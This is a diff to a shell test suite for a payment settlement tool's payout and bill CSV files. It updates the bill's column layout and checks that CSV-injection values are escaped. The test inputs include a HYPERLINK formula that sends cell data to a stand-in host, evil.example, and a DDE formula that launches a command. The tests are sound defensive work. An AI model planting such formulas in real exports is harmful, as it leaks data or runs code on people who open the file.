@@ -286,14 +286,16 @@ field() { # field JSON KEY
 	assert_equal "$(cat "$BATS_TEST_TMPDIR/out/payouts-2026-11-05.csv")" "merchant,account,amount,currency,reference
 m:cafe01,6222000011112222,89.46,CNY,$sid"
 	bill="$BATS_TEST_TMPDIR/out/bill-2026-11-05-cafe01.csv"
-	assert_equal "$(sed -n 1p "$bill")" "kind,id,order,out_trade_no,time,amount,fee,net,currency"
-	assert_equal "$(grep -c '^payment,' "$bill")" 1
-	assert_equal "$(grep '^refund,' "$bill" | cut -d, -f6-9)" "-10.00,-0.06,-9.94,CNY"
-	assert_equal "$(grep '^total,' "$bill")" "total,,,,,90.00,0.54,89.46,CNY"
+	# The lines of wpay-bill's trade bill (its one writer), then the settlement's own.
+	assert_equal "$(sed -n 1p "$bill")" "time,order,out_trade_no,id,out_request_no,kind,amount,fee,net,currency,buyer,subject,settlement,settlement_date"
+	assert_equal "$(awk -F, '$6 == "payment"' "$bill" | wc -l)" 1
+	assert_equal "$(awk -F, '$6 == "refund" { print $5 "," $7 "," $8 "," $9 "," $10 "," $13 }' "$bill")" "r1,-10.00,-0.06,-9.94,CNY,$sid"
+	assert_equal "$(awk -F, '$6 == "total" { print $7 "," $8 "," $9 "," $12 }' "$bill")" "90.00,0.54,89.46,payments 1 refunds 1"
+	assert_equal "$(awk -F, '$6 == "payout" { print $9 }' "$bill")" 89.46
 	assert_equal "$(ls "$BATS_TEST_TMPDIR/out" | grep -c tmp)" 0
 	run --separate-stderr wpay-settle --out "$BATS_TEST_TMPDIR/out"
 	assert_success
-	assert_equal "$(grep -c '^payment,' "$bill")" 1
+	assert_equal "$(awk -F, '$6 == "payment"' "$bill" | wc -l)" 1
 	run --separate-stderr wpay-settle --out /proc/no/such
 	assert_failure 73
 }
@@ -326,7 +328,7 @@ m:cafe01,6222000011112222,89.46,CNY,$sid"
 	assert_equal "$(cat "$out/payouts-2026-11-05.csv")" "merchant,account,amount,currency,reference
 m:cafe01,6222000011112222,99.40,CNY,$sid"
 	[ -f "$out/bill-2026-11-05-cafe01.csv" ] && [ ! -L "$out/bill-2026-11-05-cafe01.csv" ]
-	assert_equal "$(grep -c '^payment,' "$out/bill-2026-11-05-cafe01.csv")" 1
+	assert_equal "$(awk -F, '$6 == "payment"' "$out/bill-2026-11-05-cafe01.csv" | wc -l)" 1
 	# Written for its owner only: a payout file names bank accounts.
 	assert_equal "$(stat -c %a "$out/payouts-2026-11-05.csv")" 600
 	assert_equal "$(stat -c %a "$out/bill-2026-11-05-cafe01.csv")" 600
@@ -370,14 +372,14 @@ m:cafe01,6222000011112222,99.40,CNY,$sid"
 		payouts = list(csv.reader(open(sys.argv[1], newline="")))
 		bill = list(csv.reader(open(sys.argv[2], newline="")))
 		assert [r[1] for r in payouts[1:]] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(1)", "'+1"], payouts
-		trades = [r for r in bill[1:] if r[0] in ("payment", "refund")]
-		assert sorted(r[3] for r in trades) == sorted(["'-2+3+cmd|' /C calc'!A0", 'a,"b";c', "'\t=1+1", "'-2+3+cmd|' /C calc'!A0"]), trades
+		trades = [r for r in bill[1:] if r[5] in ("payment", "refund")]
+		assert sorted(r[2] for r in trades) == sorted(["'-2+3+cmd|' /C calc'!A0", 'a,"b";c', "'\t=1+1", "'-2+3+cmd|' /C calc'!A0"]), trades
 		for r in bill[1:]:
-		    assert len(r) == 9, r
-		    for cell in r[5:8]:
+		    assert len(r) == 14, r
+		    for cell in r[6:9]:
 		        assert cell == "" or float(cell) is not None, r
-		refund = [r for r in bill if r[0] == "refund"][0]
-		assert refund[5:8] == ["-10.00", "-0.06", "-9.94"], refund
+		refund = [r for r in bill if r[5] == "refund"][0]
+		assert refund[6:9] == ["-10.00", "-0.06", "-9.94"], refund
 		for rows in (payouts, bill):
 		    for r in rows:
 		        for cell in r:
